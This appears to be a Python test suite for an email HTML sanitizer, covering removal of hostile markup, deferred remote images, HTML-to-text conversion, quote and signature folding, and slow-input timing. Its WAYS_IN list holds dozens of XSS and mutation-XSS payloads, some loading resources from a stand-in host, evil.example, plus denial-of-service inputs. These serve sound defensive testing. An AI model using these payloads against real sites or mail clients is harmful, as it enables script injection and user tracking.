"""Letters: what is left of hostile HTML, what is fetched, what is text, what is folded."""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from routing import letter

# Each line is a way in that has worked somewhere: tags, attributes, SVG, MathML, encodings, mutation.
WAYS_IN = r"""
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<img src="x" ONERROR = 'alert(1)'>
<img/src=x/onerror=alert(1)>
<img src=`x` onerror=alert(1)>
<img src="javascript:alert(1)">
<img src="data:image/svg+xml,<svg onload=alert(1)>">
<img srcset="https://evil.example/a.png 1x">
<img lowsrc="https://evil.example/a.png" dynsrc="https://evil.example/b.png">
<image href="https://evil.example/a.png">
<body onload=alert(1) background="https://evil.example/a.png">
<table background="https://evil.example/a.png"><td background="https://evil.example/b.png">x</table>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><use href="data:image/svg+xml,<svg id='x'><script>alert(1)</script></svg>#x"/>
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mtext></p><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>
<math href="javascript:alert(1)">x</math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<p title="</title><img src=x onerror=alert(1)>">
<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>
<template><img src=x onerror=alert(1)></template>
<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>
<a href="javascript:alert(1)">x</a>
<a href=" java&#x09;script:alert(1)">x</a>
<a href="&#106;avascript&colon;alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="//evil.example/">x</a>
<a href="/api/v1/cases">x</a>
<a href="https://evil.example/" onclick="alert(1)" ping="https://evil.example/p" download target=_top>x</a>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>
<object data="javascript:alert(1)"><embed src="https://evil.example/x.swf"></object>
<applet code=x archive="https://evil.example/a.jar"></applet>
<form action="https://evil.example/"><input name=password><button formaction="javascript:alert(1)">x</button></form>
<isindex action="javascript:alert(1)">
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)><option>x</select>
<details open ontoggle=alert(1)>x</details>
<video poster="https://evil.example/p.png"><source onerror=alert(1)></video>
<audio src="https://evil.example/a.mp3" autoplay onerror=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<link rel=stylesheet href="https://evil.example/x.css">
<link rel=prefetch href="https://evil.example/x">
<meta http-equiv=refresh content="0;url=https://evil.example/">
<base href="https://evil.example/">
<style>@import url(https://evil.example/x.css); body{background:url(https://evil.example/a.png)}</style>
<p style="background:url(https://evil.example/a.png)">x</p>
<p style="background-color:u\72l(https://evil.example/a.png)">x</p>
<p style="list-style-type:url('https://evil.example/a.png')">x</p>
<p style="width:expression(alert(1))">x</p>
<p style="color:red;-moz-binding:url(//evil.example/x.xml#x)">x</p>
<p style="font-family:'&quot;;background:url(https://evil.example/a.png)'">x</p>
<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">x</p>
<p style="color:image-set('https://evil.example/a.png' 1x)">x</p>
<div id="app" class="btn" name="x">x</div>
<img data-remote="javascript:alert(1)">
<img data-remote="https://a.example/x.png" src="https://b.example/y.png">
<img src="cid:x" onerror=alert(1)>
<img src="remote:https://evil.example/x.png">
<img alt="<img src=x onerror=alert(1)>" src="https://evil.example/a.png">
<a title='" onmouseover="alert(1)'>x</a>
<!--><img src=x onerror=alert(1)>-->
<!--[if IE]><script>alert(1)</script><![endif]-->
<![CDATA[<script>alert(1)</script>]]>
<?xml-stylesheet href="javascript:alert(1)"?>
<div><style><div title="</style><img src=x onerror=alert(1)>">
<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
<plaintext><script>alert(1)</script>
<frameset><frame src="javascript:alert(1)"></frameset>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
<img src="https://evil.example/a.png" referrerpolicy=unsafe-url crossorigin>
"""

ALLOWED = letter._BLOCKS | letter._INLINE
SCHEMES = re.compile(r"(?:https?|mailto|tel|cid):", re.IGNORECASE)


class Seen(HTMLParser):
    """Reads cleaned HTML as another program would, and asserts what must hold of every tag."""

    def __init__(self, *, images: bool) -> None:
        super().__init__()
        self.images = images
        self.fetched: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in ALLOWED, tag
        for name, value in attrs:
            assert not name.startswith("on"), name
            assert name in {
                "style", "dir", "lang", "title", "align", "valign", "href", "src", "alt", "width", "height",
                "data-remote", "border", "cellpadding", "cellspacing", "bgcolor", "colspan", "rowspan", "color",
                "size", "face", "start", "type", "span", "rel", "target",
            }, name  # fmt: skip
            if name == "href":
                assert SCHEMES.match(value or ""), value
            if name == "style":
                assert not re.search(r"url|image|expression|@|position|\\", value or "", re.IGNORECASE), value
            if name == "src":
                self.fetched.append(value or "")
        if tag == "a":
            assert dict(attrs).get("rel") == "noopener noreferrer nofollow"
            assert dict(attrs).get("target") == "_blank"

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)


def seen(html: str, *, images: bool = False) -> Seen:
    reader = Seen(images=images)
    reader.feed(html)
    reader.close()
    return reader


@pytest.mark.parametrize("way", [way for way in WAYS_IN.splitlines() if way])
def test_no_way_in_leaves_a_script_a_handler_a_form_or_a_request(way: str) -> None:
    for html in (way, f"<div>{way}</div>", way * 3, f"<b><p>{way}", way.upper(), f"<table>{way}"):
        cleaned = letter.clean(html)
        assert [src for src in seen(cleaned).fetched if not src.lower().startswith("cid:")] == []
        assert "<script" not in cleaned.lower()
        assert letter.clean(cleaned) == cleaned, "cleaning again changes nothing"
        shown = letter.clean(cleaned, images=True, cid=lambda id_: f"/files/{len(id_)}")
        assert all(
            src.lower().startswith(("https://", "/files/")) for src in seen(shown, images=True).fetched
        )


@settings(max_examples=150, deadline=None)
@given(
    st.lists(
        st.sampled_from([*re.findall(r"<[^>]*>|[^<]+", WAYS_IN), "-->", "</style>", '"', "'"]), max_size=15
    )
)
def test_pieces_of_ways_in_put_together_open_none(pieces: list[str]) -> None:
    cleaned = letter.clean("".join(pieces))
    assert [src for src in seen(cleaned).fetched if not src.lower().startswith("cid:")] == []
    letter.as_text("".join(pieces))


def test_remote_images_wait_until_somebody_asks() -> None:
    html = '<p>Bonjour<img src="https://suivi.example/p.gif?a=1&amp;b=2" alt="logo" width="1"></p>'
    stored = letter.clean(html)
    assert (
        stored
        == '<p>Bonjour<img data-remote="https://suivi.example/p.gif?a=1&amp;b=2" alt="logo" width="1"></p>'
    )
    assert letter.remote_images(stored) == 1
    assert letter.clean(stored) == stored
    assert letter.clean(stored, images=True) == html
    assert letter.clean(letter.clean(stored, images=True)) == stored


def test_images_of_the_mail_itself_are_served_by_us() -> None:
    html = '<img src="cid:photo1@x"><img src="CID:other">'
    assert letter.clean(html) == html
    shown = letter.clean(html, cid={"photo1@x": "/api/v1/attachments/7"}.get)
    assert shown == '<img src="/api/v1/attachments/7"><img>'


def test_what_letters_are_made_of_stays() -> None:
    html = (
        '<h1>Facture</h1><p style="color:red;text-align:center">Bonjour <b>Léa</b>,</p>'
        '<table border="1" width="100%"><tbody><tr><td colspan="2">12 €</td></tr></tbody></table>'
        "<ul><li>un</li></ul><blockquote>avant</blockquote>"
    )
    assert letter.clean(html) == html


TEXTS = (
    ("<p>Bonjour</p><p>Merci<br>Léa</p>", "Bonjour\n\nMerci\nLéa"),
    ("<ul><li>un<li>deux</ul>", "- un\n- deux"),
    ("<div>Oui</div><blockquote>Vous<blockquote>avant</blockquote></blockquote>", "Oui\n> Vous\n> > avant"),
    ('<a href="https://a.example/x">ici</a>', "ici <https://a.example/x>"),
    ('<a href="https://a.example/">https://a.example</a>', "https://a.example"),
    ("<style>p{}</style><script>x</script><title>t</title>a&nbsp;&amp;&lt;b", "a &<b"),
    ("<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>", "a b\nc"),
    ("<pre>a\n  b</pre>", "a\n  b"),
    ("a\n b   c", "a b c"),
    ("", ""),
)  # fmt: skip


@pytest.mark.parametrize(("html", "text"), TEXTS)
def test_html_has_a_text(html: str, text: str) -> None:
    assert letter.as_text(html) == text


def test_text_becomes_html_in_which_nothing_is_markup() -> None:
    assert letter.of_text("a <b>\n&\n\nvoir https://x.example/?a=1&b=2, merci") == (
        "<p>a &lt;b&gt;<br>\n&amp;</p>\n"
        '<p>voir <a href="https://x.example/?a=1&amp;b=2">https://x.example/?a=1&amp;b=2</a>, merci</p>'
    )


FOLDS = {
    "French Gmail": """
        Bonjour,
        toujours rien.
        =====
        Le lun. 2 nov. 2026 à 18:02, Léa – Service client <service@exemple.fr> a écrit :

        > Bonjour,
        > demain.
    """,
    "French Gmail, broken in two lines": """
        Oui.
        =====
        Le lun. 2 nov. 2026 à 18:02, Léa – Service client <service@exemple.fr> a
        écrit :

        > Bonjour
    """,
    "French Gmail without a space before the colon": """
        Oui.
        =====
        Le 2 nov. 2026 à 18:02, Léa a écrit:
        > Bonjour
    """,
    "English Gmail": """
        Yes.
        =====
        On Mon, Nov 2, 2026 at 6:02 PM Lea <service@example.com> wrote:

        > Hello
    """,
    "French Outlook": """
        Voici.
        =====
        De : Léa <service@exemple.fr>
        Envoyé : lundi 2 novembre 2026 18:02
        À : Jean Petit
        Objet : Re: colis

        Bonjour,
        demain.
    """,
    "French Outlook with a line, in bold": """
        Voici.
        =====
        ________________________________
        *De :* Léa <service@exemple.fr>
        *Envoyé :* lundi 2 novembre 2026 18:02
        *À :* Jean Petit
        *Objet :* Re: colis

        Bonjour
    """,
    "English Outlook": """
        See below.
        =====
        From: Lea <service@example.com>
        Sent: Monday, November 2, 2026 6:02 PM
        To: John
        Subject: RE: parcel

        Hello
    """,
    "the old French separator": """
        Voici.
        =====
        -----Message d'origine-----
        De : Léa
        Bonjour
    """,
    "the old English separator": """
        Here.
        =====
        -----Original Message-----
        From: Lea
    """,
    "quoted lines alone": """
        D'accord.
        =====
        > Demain ?
        > Léa
    """,
    "a signature": """
        Merci
        -----
        --
        Jean Petit
        01 23 45 67 89
    """,
    "a phone's signature in French, then a quote": """
        Oui
        -----
        Envoyé de mon iPhone
        =====
        Le 2 nov. 2026 à 18:02, Léa <service@exemple.fr> a écrit :

        > Bonjour
    """,
    "a phone's signature in English": """
        Yes
        -----
        Sent from my iPhone
    """,
    "French good wishes": """
        Mon colis est perdu.
        -----
        Cordialement,
        Jean Petit
    """,
    "English good wishes": """
        My parcel is lost.
        -----
        Best regards,
        John
    """,
    "answers between the lines": """
        On Mon, Nov 2, 2026 at 6:02 PM Lea <service@example.com> wrote:
        > Which colour?
        The red one.
        > When?
        Tomorrow.
    """,
    "an answer below the quote": """
        Bonjour,
        Le 2 nov. 2026 à 18:02, Léa a écrit :
        > Demain ?
        Non, mardi.
    """,
    "a list with hyphens": """
        Il manque :
        - le livre
        - la lampe
    """,
    "words that only look like a quote": """
        Le facteur m'a écrit un mot.
        De : rien.
        On verra.
    """,
    "nothing but a quote": """
        > Bonjour
    """,
}


@pytest.mark.parametrize("name", FOLDS)
def test_a_text_is_folded_where_others_words_begin(name: str) -> None:
    lines = [line[8:] for line in FOLDS[name].strip("\n").splitlines()]
    while lines and not lines[-1].strip():
        lines.pop()
    parts: dict[str, list[str]] = {"own": [], "-----": [], "=====": []}
    part = "own"
    for line in lines:
        if line in parts:
            part = line
        else:
            parts[part].append(line)
    folded = letter.fold("\n".join(line for line in lines if line not in parts))
    own, signature, quoted = ("\n".join(said).strip("\n") for said in parts.values())
    assert (folded.own, folded.signature, folded.quoted) == (own, signature, quoted)


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=300))
def test_folding_loses_no_word(text: str) -> None:
    folded = letter.fold(text)
    told = " ".join((folded.own, folded.signature, folded.quoted)).split()
    assert told == letter.tidy(text).split()


SLOW = {
    "deep": "<div>" * 200_000,
    "deep behind comments": "<div><!--</div>-->" * 50_000,
    "formatting": "<b>" * 100_000 + "<p>" * 100_000,
    "links": "<a href=x><b><p>" * 50_000,
    "tables": "<table><td>" * 80_000,
    "open comment": "<!--" * 200_000,
    "attributes": "<p " + "a=b " * 200_000 + ">",
    "entities": "&lt;" * 200_000,
    "empty lines": "\n" * 19_999,
    "le le le": "Le " * 60_000,
    "on and on": "On x\n" * 40_000,
    "from from": "De : x\n" * 25_000,
    "underscores": "_" * 200_000,
    "angles": "<" * 200_000,
    "spaces": " " * 190_000,
}


@pytest.mark.parametrize("name", SLOW)
def test_no_text_takes_long(name: str) -> None:
    began = time.process_time()
    letter.clean(SLOW[name])
    letter.as_text(SLOW[name])
    letter.fold(SLOW[name])
    assert time.process_time() - began < 3
